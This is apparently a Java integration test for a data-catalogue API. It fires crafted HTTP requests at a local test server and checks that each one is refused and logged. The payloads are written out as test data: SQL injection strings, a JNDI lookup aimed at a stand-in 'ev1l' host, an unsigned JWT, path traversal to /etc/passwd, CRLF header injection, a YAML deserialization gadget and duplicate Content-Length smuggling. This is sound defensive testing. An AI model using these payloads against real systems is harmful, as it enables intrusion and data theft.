package org.silobridge.catalogue;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.silobridge.catalogue.TestCatalogue.json;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.InstantSource;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.atomic.AtomicReference;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Isolated;
import org.slf4j.LoggerFactory;
import org.slf4j.event.KeyValuePair;

/**
 * What must fail: other departments' objects, forged tokens, escalation, mass assignment, injection, malformed and
 * oversized calls. Each is sent as bytes over a connection of its own, is answered with a problem that tells nothing of
 * the inside, changes nothing, and leaves one entry in the security log, which repeats nothing of what was sent.
 */
@Isolated("reads the security log of all catalogues of the JVM")
class AttacksIT {
    private static final String EVIL = "ev1l";
    private static final String DATASET = "population/resident/owner";
    private static final String BY_NAME = "/datasets/population~resident~owner";
    private static final int MAX_BODY = 1 << 20;
    private static final String PASSWORD = "four words that are long";

    @TempDir
    static Path directory;

    private static final AtomicReference<Duration> AHEAD = new AtomicReference<>(Duration.ZERO);
    private static final ListAppender<ILoggingEvent> LOG = new ListAppender<>();
    private static final Logger SECURITY = (Logger) LoggerFactory.getLogger("org.silobridge.security");
    private static final Map<String, String> TOKENS = new HashMap<>();
    private static TestCatalogue catalogue;
    private static String operatorId = "";
    private static String operatorToken = "";
    private static String tokenId = "";
    private static String oldToken = "";
    private static String request = "";
    private static String grant = "";
    private static JsonObject contract = new JsonObject();
    private static String cookie = "";
    private static String csrfToken = "";
    private static String endedCookie = "";
    private static String oldCookie = "";

    /** One attempt: what is sent, a character for each byte, and the refusal. */
    private record Attempt(String what, String sent, int status, String code) {}

    /** What came back. */
    private record Reply(int status, String head, String body) {}

    @BeforeAll
    static void anExchangeWithOneGrant() throws Exception {
        InstantSource now = () -> Clock.systemUTC().instant().plus(AHEAD.get());
        catalogue = TestCatalogue.start(directory, now.withZone(ZoneOffset.UTC));
        TOKENS.put("operator", catalogue.operator);
        Map.of("owner", "11100000000013127D", "reader", "11100000000013338W", "other", "91110000100010433L")
                .forEach(AttacksIT::department);
        for (var who : List.of(
                "auditor",
                "supervisor",
                "coordinator",
                "publisher@owner",
                "steward@owner",
                "applicant@reader",
                "steward@reader",
                "publisher@other",
                "applicant@other",
                "steward@other")) {
            var at = who.split("@", -1);
            TOKENS.put(who, catalogue.actor(who, at[0], at.length == 1 ? null : at[1]));
        }
        var spare = catalogue.register("spare", "auditor", null);
        TOKENS.put("expired", issued(spare, 1).getString("token"));
        var ended = issued(spare, 30);
        tokenId = ended.getString("tokenId");
        TOKENS.put("ended", ended.getString("token"));
        var rotated = issued(spare, 30);
        oldToken = rotated.getString("tokenId");
        TOKENS.put("old", rotated.getString("token"));
        TOKENS.put(
                "new",
                done(catalogue.post(
                                rotated.getString("token"),
                                "/tokens/" + oldToken + "/rotation",
                                new JsonObject().put("overlapHours", 1)))
                        .getString("token"));
        assertThat(catalogue.get(token("old"), "/me").statusCode()).isEqualTo(200);
        catalogue.call("DELETE", "/tokens/" + tokenId, catalogue.operator, null);
        var person = catalogue.register("person", "auditor", null);
        var once = done(catalogue.call("POST", "/actors/" + person + "/password", catalogue.operator, null))
                .getString("password");
        done(catalogue.call(
                "POST",
                "/actors/" + catalogue.register("guessed", "auditor", null) + "/password",
                catalogue.operator,
                null));
        oldCookie = cookie(loggedIn(once, PASSWORD));
        AHEAD.set(Duration.ofDays(2));
        var over = loggedIn(PASSWORD, null);
        endedCookie = cookie(over);
        catalogue.call("POST", "/logout", endedCookie.replaceFirst("^[^=]*=", ""), null);
        var session = loggedIn(PASSWORD, null);
        cookie = cookie(session);
        csrfToken = json(session).getString("csrfToken");
        var operator = json(catalogue.get(catalogue.operator, "/me"));
        operatorId = operator.getJsonObject("actor").getString("id");
        operatorToken = operator.getJsonObject("token").getString("tokenId");
        TOKENS.put("reads as operator", scoped("read"));
        TOKENS.put("hands on as operator", scoped("read", "issueToken", "rotateToken"));
        contract = TestCatalogue.contract("population/resident");
        done(catalogue.post(token("publisher@owner"), "/contracts", contract));
        done(catalogue.post(token("publisher@owner"), "/datasets", dataset()));
        request = done(catalogue.post(token("applicant@reader"), "/requests", asked()))
                .getString("id");
        grant = done(catalogue.post(token("steward@owner"), "/requests/" + request + "/decision", approve()))
                .getString("grant");
        SECURITY.setAdditive(false);
        LOG.start();
        SECURITY.addAppender(LOG);
    }

    @AfterAll
    static void stop() {
        SECURITY.detachAppender(LOG);
        SECURITY.setAdditive(true);
        catalogue.close();
    }

    @TestFactory
    Stream<DynamicTest> failsWithAProblemAndOneEntryInTheSecurityLog() throws Exception {
        var before = state();
        return Stream.concat(
                Stream.of(
                                othersObjects(),
                                forgedTokens(),
                                sessions(),
                                passwords(),
                                escalation(),
                                massAssignment(),
                                injection(),
                                malformed())
                        .flatMap(attempts -> attempts)
                        .map(attempt -> DynamicTest.dynamicTest(attempt.what(), () -> fails(attempt))),
                Stream.of(DynamicTest.dynamicTest("nothing of it changed anything", () -> assertThat(state())
                        .isEqualTo(before))));
    }

    private static void fails(Attempt attempt) throws Exception {
        LOG.list.clear();

        var reply = send(attempt.sent());

        assertThat(reply.status()).as(reply.body()).isEqualTo(attempt.status());
        assertThat(reply.head())
                .containsIgnoringCase("Content-Type: application/problem+json")
                .containsIgnoringCase("X-Content-Type-Options: nosniff")
                .containsIgnoringCase("Cache-Control: no-store")
                .containsIgnoringCase("Content-Security-Policy: default-src 'none'; frame-ancestors 'none'")
                .doesNotContainIgnoringCase("Set-Cookie", "X-Evil", "Server:");
        var problem = new JsonObject(reply.body());
        assertThat(problem.getString("code")).as(reply.body()).isEqualTo(attempt.code());
        assertThat(problem.getInteger("status")).isEqualTo(attempt.status());
        assertThat(reply.body())
                .doesNotContain("Exception", "\\tat ", "org.silobridge", "io.vertx", "java.", "SELECT ", "jdbc:")
                .doesNotContainPattern("sb[ts]_\\w");
        assertThat(LOG.list).hasSize(1);
        var entry = LOG.list.get(0);
        assertThat(entry.getMessage()).isEqualTo("refused");
        assertThat(entry.getThrowableProxy()).isNull();
        var said = new HashMap<String, Object>();
        for (KeyValuePair pair : entry.getKeyValuePairs()) {
            said.put(pair.key, pair.value);
        }
        assertThat(said)
                .containsEntry("status", attempt.status())
                .containsEntry("code", attempt.code())
                .containsEntry("remote", "127.0.0.1");
        assertThat(said.keySet()).isSubsetOf("status", "code", "remote", "operation", "actor");
        assertThat(said.containsKey("actor") && attempt.status() == 401).isFalse();
        assertThat(said.toString()).doesNotContain(EVIL, "sbt_", "sbs_", PASSWORD, "'", "\n");
    }

    private static Stream<Attempt> othersObjects() {
        var revocation = reason();
        return Stream.of(
                get("another's request", "applicant@other", "/requests/" + request, 404, "catalogue.request.unknown"),
                get("another's grant", "applicant@other", "/grants/" + grant, 404, "catalogue.grant.unknown"),
                get(
                        "another's right",
                        "applicant@other",
                        BY_NAME + "/access?department=reader",
                        404,
                        "catalogue.department.unknown"),
                post(
                        "deciding another owner's request",
                        "steward@other",
                        "/requests/" + request + "/decision",
                        approve(),
                        404,
                        "catalogue.request.unknown"),
                post(
                        "deciding one's own department's request",
                        "steward@reader",
                        "/requests/" + request + "/decision",
                        approve(),
                        403,
                        "catalogue.request.not-the-owners-steward"),
                post(
                        "extending another owner's request",
                        "steward@other",
                        "/requests/" + request + "/extension",
                        revocation,
                        404,
                        "catalogue.request.unknown"),
                post(
                        "revoking another owner's grant",
                        "steward@other",
                        "/grants/" + grant + "/revocation",
                        revocation,
                        404,
                        "catalogue.grant.unknown"),
                get(
                        "another's publication",
                        "publisher@other",
                        BY_NAME + "/publication",
                        403,
                        "catalogue.actor.not-in-department"),
                post(
                        "another's key",
                        "publisher@other",
                        BY_NAME + "/key-leases",
                        new JsonObject(),
                        403,
                        "catalogue.actor.not-in-department"),
                post(
                        "a dataset in another's name",
                        "publisher@other",
                        "/datasets",
                        dataset(),
                        403,
                        "catalogue.actor.not-in-department"),
                post(
                        "a request in another's name",
                        "applicant@other",
                        "/requests",
                        asked(),
                        403,
                        "catalogue.actor.not-in-department"),
                post(
                        "a version of another's contract",
                        "publisher@other",
                        "/contracts",
                        contract.copy()
                                .put(
                                        "contract",
                                        contract.getString("contract").replace("version: \"1.0\"", "version: \"2.0\"")),
                        403,
                        "catalogue.contract.not-maintainer"));
    }

    private static Stream<Attempt> forgedTokens() {
        var unknown = "catalogue.actor.token-unknown";
        var missing = "catalogue.actor.token-missing";
        var good = token("auditor");
        return Stream.of(
                bearing("no token", "", missing),
                bearing("a token of the right form", "Authorization: Bearer sbt_" + "a".repeat(43), unknown),
                bearing("an expired token", "Authorization: Bearer " + token("expired"), unknown),
                bearing(
                        "a token exchanged for another, after the overlap",
                        "Authorization: Bearer " + token("old"),
                        unknown),
                bearing("an ended token", "Authorization: Bearer " + token("ended"), unknown),
                bearing("a token's id", "Authorization: Bearer " + tokenId, unknown),
                bearing("a token with more behind it", "Authorization: Bearer " + good + "x", unknown),
                bearing("half a token", "Authorization: Bearer " + good.substring(0, 30), unknown),
                bearing("a token in capitals", "Authorization: Bearer " + good.toUpperCase(Locale.ROOT), unknown),
                bearing("a token by another scheme", "Authorization: Basic " + good, missing),
                bearing("a token in a cookie", "Cookie: token=" + good + "; Authorization=" + good, missing),
                bearing(
                        "a JWT that says it needs no signature",
                        "Authorization: Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJvcGVyYXRvciJ9.",
                        unknown),
                bearing("SQL for a token", "Authorization: Bearer ' OR '1'='1", unknown),
                bearing("a lookup for a token", "Authorization: Bearer ${jndi:ldap://" + EVIL + "/a}", unknown),
                bearing("a long token", "Authorization: Bearer " + EVIL.repeat(1000), unknown),
                bearing(
                        "a known token behind a forged one",
                        "Authorization: Bearer forged\r\nAuthorization: Bearer " + good,
                        unknown),
                new Attempt("a token in the address", bytes("GET /api/v1/me?access_token=" + good, ""), 401, missing));
    }

    private static Stream<Attempt> sessions() {
        var over = "catalogue.session.over";
        var noToken = "catalogue.session.no-csrf-token";
        var otherSite = "catalogue.session.other-site";
        var good = cookie + "\r\nX-CSRF-Token: " + csrfToken;
        var missing = "catalogue.actor.token-missing";
        return Stream.of(
                byCookie("an ended session", "GET /api/v1/me", endedCookie, 401, over),
                byCookie("a session of the day before yesterday", "GET /api/v1/me", oldCookie, 401, over),
                byCookie("a made-up session", "GET /api/v1/me", "silobridge=sbs_" + "a".repeat(43), 401, over),
                byCookie("a token for a session", "GET /api/v1/me", "silobridge=" + token("auditor"), 401, missing),
                byCookie(
                        "two sessions, one of them planted",
                        "GET /api/v1/me",
                        cookie + "; silobridge=sbs_" + "a".repeat(43),
                        401,
                        missing),
                byCookie("SQL for a session", "GET /api/v1/me", "silobridge=' OR '1'='1", 401, missing),
                byCookie("a change by cookie alone", "POST /api/v1/logout", cookie, 403, noToken),
                byCookie(
                        "the session's id for its token",
                        "POST /api/v1/logout",
                        cookie + "\r\nX-CSRF-Token: " + cookie.replaceFirst("^[^=]*=", ""),
                        403,
                        noToken),
                byCookie(
                        "a change from another site's page",
                        "POST /api/v1/logout",
                        good + "\r\nOrigin: https://" + EVIL + ".example",
                        403,
                        otherSite),
                byCookie(
                        "a change from a page of nowhere",
                        "POST /api/v1/logout",
                        good + "\r\nOrigin: null",
                        403,
                        otherSite),
                byCookie(
                        "a change from a sister site's page",
                        "POST /api/v1/logout",
                        good + "\r\nSec-Fetch-Site: same-site",
                        403,
                        otherSite),
                byCookie(
                        "a session and a token",
                        "GET /api/v1/me",
                        cookie + "\r\nAuthorization: Bearer " + token("auditor"),
                        400,
                        "catalogue.session.two-credentials"));
    }

    private static Attempt byCookie(String what, String line, String cookie, int status, String code) {
        return new Attempt(what, bytes(line, "Cookie: " + cookie), status, code);
    }

    private static Stream<Attempt> passwords() {
        var refused = "catalogue.login.refused";
        return Stream.concat(
                Stream.of(
                        logIn("a wrong password", "person", EVIL, "", 401, refused),
                        logIn("a password of nobody", "nobody", PASSWORD, "", 401, refused),
                        logIn("a password of who has none", "auditor", PASSWORD, "", 401, refused),
                        logIn(
                                "a password in other letters",
                                "person",
                                PASSWORD.toUpperCase(Locale.ROOT),
                                "",
                                401,
                                refused),
                        logIn("SQL for a user", "person' --", PASSWORD, "", 401, refused),
                        logIn(
                                "a log-in from another site's page",
                                "person",
                                PASSWORD,
                                "Origin: https://" + EVIL + ".example",
                                403,
                                "catalogue.session.other-site")),
                Stream.of("guessed", "never.was").flatMap(user -> IntStream.rangeClosed(1, 6)
                        .mapToObj(guess -> logIn(
                                "guess " + guess + " of " + user,
                                user,
                                EVIL + guess,
                                "",
                                guess < 6 ? 401 : 429,
                                guess < 6 ? refused : "catalogue.http.too-many"))));
    }

    private static Attempt logIn(String what, String user, String password, String header, int status, String code) {
        var body = new JsonObject().put("user", user).put("password", password).encode();
        var head = "Content-Type: application/json\r\nContent-Length: " + body.length();
        return new Attempt(
                what,
                bytes("POST /api/v1/login", header.isEmpty() ? head : head + "\r\n" + header) + body,
                status,
                code);
    }

    private static Stream<Attempt> escalation() {
        var missing = "catalogue.actor.role-missing";
        var reason = reason();
        return Stream.of(
                post("making an operator", "publisher@other", "/actors", actor(EVIL, "operator"), 403, missing),
                post("making oneself more", "auditor", "/actors", actor("auditor", "operator"), 403, missing),
                post(
                        "a token of the operator",
                        "steward@owner",
                        "/actors/" + operatorId + "/tokens",
                        new JsonObject().put("label", EVIL),
                        403,
                        missing),
                sent(
                        "ending another's token",
                        "auditor",
                        "DELETE",
                        "/tokens/" + operatorToken,
                        "",
                        404,
                        "catalogue.actor.no-such-token"),
                post(
                        "exchanging another's token",
                        "auditor",
                        "/tokens/" + operatorToken + "/rotation",
                        new JsonObject(),
                        404,
                        "catalogue.actor.no-such-token"),
                post(
                        "changing by a token for reading",
                        "reads as operator",
                        "/actors",
                        actor(EVIL, "operator"),
                        403,
                        "catalogue.actor.token-scope"),
                get(
                        "reading by a token for reading what its actor may not",
                        "reads as operator",
                        "/ledger/export",
                        403,
                        missing),
                post(
                        "a wider token by a narrow one",
                        "hands on as operator",
                        "/actors/" + operatorId + "/tokens",
                        label(),
                        403,
                        "catalogue.actor.token-scope-wider"),
                post(
                        "a wider token in exchange by a narrow one",
                        "hands on as operator",
                        "/tokens/" + operatorToken + "/rotation",
                        new JsonObject(),
                        403,
                        "catalogue.actor.token-scope-wider"),
                post(
                        "a scope that there is not",
                        "operator",
                        "/actors/" + operatorId + "/tokens",
                        label().put("scope", new JsonArray().add(EVIL)),
                        400,
                        "catalogue.actor.token-invalid"),
                post("an auditor revokes", "auditor", "/grants/" + grant + "/revocation", reason, 403, missing),
                post("an operator decides", "operator", "/requests/" + request + "/decision", approve(), 403, missing),
                post("an operator takes a key", "operator", BY_NAME + "/key-leases", new JsonObject(), 403, missing),
                post("an operator asks", "operator", "/requests", asked(), 403, missing),
                get("an operator exports the ledger", "operator", "/ledger/export", 403, missing),
                post(
                        "a coordinator grants",
                        "coordinator",
                        "/requests/" + request + "/decision",
                        approve(),
                        403,
                        missing),
                post(
                        "a supervisor lets a plan go on",
                        "supervisor",
                        "/enforcement/confirmation",
                        new JsonObject().put("plan", "x").put("reason", EVIL),
                        403,
                        missing),
                post(
                        "a Kafka password of another",
                        "publisher@other",
                        "/departments/owner/kafka-credential",
                        new JsonObject(),
                        403,
                        missing),
                new Attempt(
                        "a role by header",
                        bytes("GET /api/v1/actors", "steward@other", "X-Role: operator\r\nX-Forwarded-User: operator"),
                        403,
                        missing),
                new Attempt(
                        "another method by header",
                        bytes("POST /api/v1/tokens/" + tokenId, "operator", "X-HTTP-Method-Override: DELETE"),
                        405,
                        "catalogue.http.no-such-method"),
                post(
                        "a role that there is not",
                        "operator",
                        "/actors",
                        actor(EVIL, "root"),
                        400,
                        "catalogue.actor.invalid"));
    }

    private static Stream<Attempt> massAssignment() {
        return Stream.of(
                extra("applicant@reader", "/requests", asked(), "state", "approved"),
                extra("applicant@reader", "/requests", asked(), "grant", grant),
                extra("applicant@reader", "/requests", asked(), "filedBy", operatorId),
                extra("steward@owner", "/requests/" + request + "/decision", approve(), "actor", operatorId),
                extra("publisher@owner", "/datasets", dataset(), "topic", "__consumer_offsets"),
                extra("publisher@owner", "/datasets", dataset(), "state", "ready"),
                extra("operator", "/actors", actor(EVIL, "auditor"), "id", operatorId),
                extra("operator", "/actors/" + operatorId + "/tokens", label(), "token", "sb" + EVIL),
                extra("operator", "/actors/" + operatorId + "/tokens", label(), "expiresAt", "9999-01-01"),
                extra(
                        "operator",
                        "/departments",
                        TestCatalogue.department("fourth", "91110000100010433L"),
                        "principal",
                        "User:admin"),
                extra("steward@owner", "/grants/" + grant + "/revocation", reason(), "endedAt", "2000-01-01"));
    }

    private static Stream<Attempt> injection() {
        var sql = "'%20OR%20'1'='1'--";
        return Stream.of(
                get("SQL for a request", "applicant@other", "/requests/req-" + sql, 404, "catalogue.request.unknown"),
                get("SQL for a grant", "applicant@other", "/grants/" + sql, 404, "catalogue.grant.unknown"),
                get(
                        "SQL for a department",
                        "applicant@other",
                        "/departments/x';DROP%20TABLE%20department;--",
                        404,
                        "catalogue.department.unknown"),
                get("SQL for a dataset", "applicant@other", "/datasets/a~b~c" + sql, 404, "catalogue.dataset.unknown"),
                get("SQL for a state", "applicant@other", "/grants?state=" + sql, 400, "catalogue.input.invalid"),
                get(
                        "SQL for a filter",
                        "applicant@other",
                        "/requests?department=" + sql,
                        404,
                        "catalogue.department.unknown"),
                get("SQL for a number", "auditor", "/ledger/entries?from=1%20OR%201=1", 400, "catalogue.input.invalid"),
                post(
                        "SQL in a body",
                        "applicant@reader",
                        "/requests",
                        asked().put("dataset", "'; DROP TABLE dataset; --"),
                        400,
                        "catalogue.request.invalid"),
                post(
                        "a topic's name in a slug",
                        "operator",
                        "/departments",
                        TestCatalogue.department("*\n" + EVIL, "91110000100010433L"),
                        400,
                        "catalogue.department.invalid"),
                post(
                        "a class in a contract",
                        "publisher@owner",
                        "/contracts",
                        contract.copy().put("contract", "!!javax.script.ScriptEngineManager [" + EVIL + "]"),
                        400,
                        "contract.yaml.invalid"),
                get(
                        "a header in a path",
                        "applicant@other",
                        "/departments/x%0d%0aSet-Cookie:%20a=b%0d%0aX-Evil:%201",
                        404,
                        "catalogue.department.unknown"),
                new Attempt(
                        "a control character in a header",
                        bytes("GET /api/v1/me", "auditor", "Idempotency-Key: a\u0000b"),
                        400,
                        "catalogue.http.malformed"),
                get("a way out of the API", "auditor", "/../../../etc/passwd", 404, "catalogue.http.no-such-route"),
                get(
                        "a way out by a parameter",
                        "auditor",
                        "/departments/..%2f..%2f..%2fetc%2fpasswd",
                        404,
                        "catalogue.department.unknown"),
                get(
                        "a line for the log",
                        "auditor",
                        "/requests/x%0aERROR%20" + EVIL,
                        404,
                        "catalogue.request.unknown"));
    }

    private static Stream<Attempt> malformed() {
        var invalid = "catalogue.input.invalid";
        var route = "/api/v1/requests";
        return Stream.of(
                new Attempt(
                        "a body larger than is taken",
                        body(route, "application/json", "\"" + "x".repeat(MAX_BODY) + "\""),
                        413,
                        "catalogue.http.body-too-large"),
                new Attempt(
                        "a body that says it is huge",
                        bytes(
                                "POST " + route,
                                "applicant@reader",
                                "Content-Type: application/json\r\nContent-Length: 99999999999"),
                        413,
                        "catalogue.http.body-too-large"),
                new Attempt("no JSON", body(route, "application/json", EVIL), 400, invalid),
                new Attempt("half of a JSON", body(route, "application/json", "{\"dataset\":"), 400, invalid),
                new Attempt("another JSON", body(route, "application/json", "[1]"), 400, invalid),
                new Attempt("an empty body", body(route, "application/json", ""), 400, invalid),
                new Attempt("a deep JSON", body(route, "application/json", "[".repeat(100_000)), 400, invalid),
                new Attempt(
                        "a deep JSON in a field",
                        body(
                                route,
                                "application/json",
                                asked().encode().replace("\"open\"", "[".repeat(900) + "]".repeat(900))),
                        400,
                        invalid),
                new Attempt(
                        "a form",
                        body(route, "application/x-www-form-urlencoded", "a=b"),
                        415,
                        "catalogue.http.media-type"),
                new Attempt("a text", body(route, "text/plain", asked().encode()), 415, "catalogue.http.media-type"),
                post(
                        "more days than an int holds",
                        "applicant@reader",
                        "/requests",
                        asked().put("durationDays", 4294967297L),
                        400,
                        invalid),
                new Attempt(
                        "a number without end",
                        body(route, "application/json", asked().encode().replace(":90", ":1e999999999")),
                        400,
                        invalid),
                get("a number beyond all", "auditor", "/ledger/entries?from=99999999999999999999", 400, invalid),
                get("a number below all", "auditor", "/ledger/entries?limit=-1", 400, invalid),
                get("no such route", "auditor", "/admin", 404, "catalogue.http.no-such-route"),
                new Attempt(
                        "no such method",
                        bytes("PATCH /api/v1/me", "auditor", ""),
                        405,
                        "catalogue.http.no-such-method"),
                new Attempt(
                        "half of an escape",
                        bytes("GET /api/v1/departments/%zz", "auditor", ""),
                        400,
                        "catalogue.http.malformed"),
                new Attempt("no HTTP", EVIL + "\r\n\r\n", 400, "catalogue.http.malformed"),
                new Attempt(
                        "an address without end",
                        bytes("GET /api/v1/departments/" + EVIL.repeat(5000), "auditor", ""),
                        400,
                        "catalogue.http.malformed"),
                new Attempt(
                        "a header without end",
                        bytes("GET /api/v1/me", "auditor", "X-Evil: " + EVIL.repeat(5000)),
                        400,
                        "catalogue.http.malformed"),
                new Attempt(
                        "two lengths of one body",
                        bytes("POST " + route, "applicant@reader", "Content-Length: 5\r\nContent-Length: 50"),
                        400,
                        "catalogue.http.malformed"));
    }

    // What is sent

    private static Attempt get(String what, String who, String path, int status, String code) {
        return sent(what, who, "GET", path, "", status, code);
    }

    private static Attempt post(String what, String who, String path, JsonObject body, int status, String code) {
        return sent(what, who, "POST", path, body.encode(), status, code);
    }

    private static Attempt extra(String who, String path, JsonObject body, String member, String value) {
        var more = body.copy().put(member, value);
        return post(member + " in " + path.replaceAll("-\\w+", ""), who, path, more, 400, "catalogue.input.invalid");
    }

    private static Attempt sent(
            String what, String who, String method, String path, String body, int status, String code) {
        var head = bytes(
                method + " /api/v1" + path,
                who,
                body.isEmpty()
                        ? ""
                        : "Content-Type: application/json\r\nContent-Length: " + body.getBytes(UTF_8).length);
        return new Attempt(what, joined(head, body), status, code);
    }

    private static Attempt bearing(String what, String header, String code) {
        return new Attempt(what, bytes("GET /api/v1/me", header), 401, code);
    }

    private static String body(String path, String type, String body) {
        var head = "Content-Type: " + type + "\r\nContent-Length: " + body.getBytes(UTF_8).length;
        return joined(bytes("POST " + path, "applicant@reader", head), body);
    }

    private static String bytes(String line, String who, String header) {
        return bytes(line, "Authorization: Bearer " + token(who) + (header.isEmpty() ? "" : "\r\n" + header));
    }

    private static String bytes(String line, String header) {
        return line + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                + (header.isEmpty() ? "" : header + "\r\n")
                + "\r\n";
    }

    private static String joined(String head, String body) {
        return head + new String(body.getBytes(UTF_8), ISO_8859_1);
    }

    private static Reply send(String bytes) throws IOException {
        try (var socket = new Socket(InetAddress.getLoopbackAddress(), catalogue.running.port())) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(bytes.getBytes(ISO_8859_1));
            socket.getOutputStream().flush();
            var in = socket.getInputStream();
            var text = new StringBuilder();
            var head = -1;
            var length = -1;
            while (head < 0 || text.length() < head + 4 + length) {
                var next = in.read();
                if (next < 0) {
                    break;
                }
                text.append((char) next);
                head = head < 0 ? text.indexOf("\r\n\r\n") : head;
                if (head >= 0 && length < 0) {
                    length = text.substring(0, head)
                            .lines()
                            .filter(line -> line.regionMatches(true, 0, "content-length: ", 0, 16))
                            .mapToInt(line -> Integer.parseInt(line.substring(16)))
                            .findFirst()
                            .orElse(0);
                }
            }
            assertThat(text.toString()).startsWith("HTTP/1.");
            return new Reply(
                    Integer.parseInt(text.substring(9, 12)),
                    text.substring(0, head),
                    new String(text.substring(head + 4).getBytes(ISO_8859_1), UTF_8));
        }
    }

    // What there is

    private static List<String> state() throws Exception {
        var found = new ArrayList<String>();
        for (var path : List.of("/departments", "/actors", "/contracts", "/datasets", "/requests", "/grants")) {
            // That a token was used is all that an attempt with it may change.
            found.add(catalogue.get(token("auditor"), path).body().replaceAll(",\"lastUsedAt\":\"[^\"]*\"", ""));
        }
        return found;
    }

    private static String token(String who) {
        return Objects.requireNonNull(TOKENS.get(who), who);
    }

    private static void department(String slug, String code) {
        try {
            done(catalogue.post(catalogue.operator, "/departments", TestCatalogue.department(slug, code)));
        } catch (IOException | InterruptedException e) {
            throw new AssertionError(e);
        }
    }

    private static JsonObject issued(String actor, int days) throws Exception {
        return done(catalogue.post(catalogue.operator, "/actors/" + actor + "/tokens", label().put("validDays", days)));
    }

    /** A token of the operator that opens less. */
    private static String scoped(String... words) throws Exception {
        return done(catalogue.post(
                        catalogue.operator,
                        "/actors/" + operatorId + "/tokens",
                        label().put("scope", new JsonArray(List.of(words)))))
                .getString("token");
    }

    /** Logs the person in. */
    private static HttpResponse<String> loggedIn(String password, @Nullable String wanted) throws Exception {
        var body = new JsonObject().put("user", "person").put("password", password);
        var answer = catalogue.post(null, "/login", wanted == null ? body : body.put("newPassword", wanted));
        done(answer);
        return answer;
    }

    private static String cookie(HttpResponse<String> answer) {
        return answer.headers().firstValue("Set-Cookie").orElseThrow().replaceFirst(";.*", "");
    }

    private static JsonObject label() {
        return new JsonObject().put("label", "test");
    }

    private static JsonObject reason() {
        return new JsonObject().put("reason", EVIL);
    }

    private static JsonObject approve() {
        return new JsonObject().put("decision", "approve");
    }

    private static JsonObject asked() {
        return TestCatalogue.request(DATASET, "reader", "open");
    }

    private static JsonObject dataset() {
        return new JsonObject()
                .put("contract", "population/resident")
                .put("major", 1)
                .put("owner", "owner");
    }

    private static JsonObject actor(String subject, String role) {
        return new JsonObject()
                .put("subject", subject)
                .put("displayName", subject)
                .put("roles", new JsonArray().add(new JsonObject().put("role", role)));
    }

    private static JsonObject done(HttpResponse<String> answer) {
        assertThat(answer.statusCode()).as(answer.body()).isBetween(200, 201);
        return json(answer);
    }
}
